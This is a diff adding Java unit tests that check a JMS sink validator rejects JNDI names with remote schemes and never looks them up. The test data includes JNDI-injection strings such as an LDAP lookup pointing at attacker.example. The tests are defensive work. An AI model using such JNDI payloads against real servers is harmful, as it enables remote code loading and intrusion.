@@ -39,6 +39,41 @@ class JmsSettingsTest {
   }
 
   @Test
+  void aJndiNameWithARemoteSchemeIsRefusedAtValidation() {
+    for (String dsn :
+        new String[] {
+          "jndi:ldap://attacker.example:1389/Exploit",
+          "jndi:rmi://attacker.example:1099/x",
+          "jndi:iiop://h/x",
+          "jndi:dns://h/x",
+          "jndi:corbaname:iiop:h#x"
+        }) {
+      Problems p = new Problems();
+      new JmsSinkFactory().validate(profile(dsn), p);
+      assertEquals(1, p.list().size(), dsn + ": " + p.list());
+      assertEquals("dsn", p.list().get(0).path());
+      assertTrue(p.list().get(0).message().contains("outside the server"), p.list().toString());
+      assertTrue(p.list().get(0).fix().contains("jndi:jms/"), p.list().get(0).fix());
+    }
+  }
+
+  @Test
+  void localJndiNamesAreAccepted() {
+    for (String name : new String[] {"jms/orders", "java:comp/env/jms/orders", "java:global/cf"}) {
+      Problems p = new Problems();
+      new JmsSinkFactory().validate(profile("jndi:" + name), p);
+      assertTrue(p.isEmpty(), name + ": " + p.list());
+      assertEquals(name, read("jndi:" + name).jndiName());
+    }
+  }
+
+  @Test
+  void aRemoteNameThatSkippedValidationIsStillNeverLookedUp() {
+    JmsSettings s = new JmsSettings("jndi:ldap://h/x", null, null, "q", false, true, true, null);
+    assertThrows(SinkException.class, s::jndiName);
+  }
+
+  @Test
   void theCommandLineRefusesTheServersEngineSayingWhy() {
     SinkException e =
         assertThrows(SinkException.class, () -> new JmsSinkFactory().open(profile("embedded")));
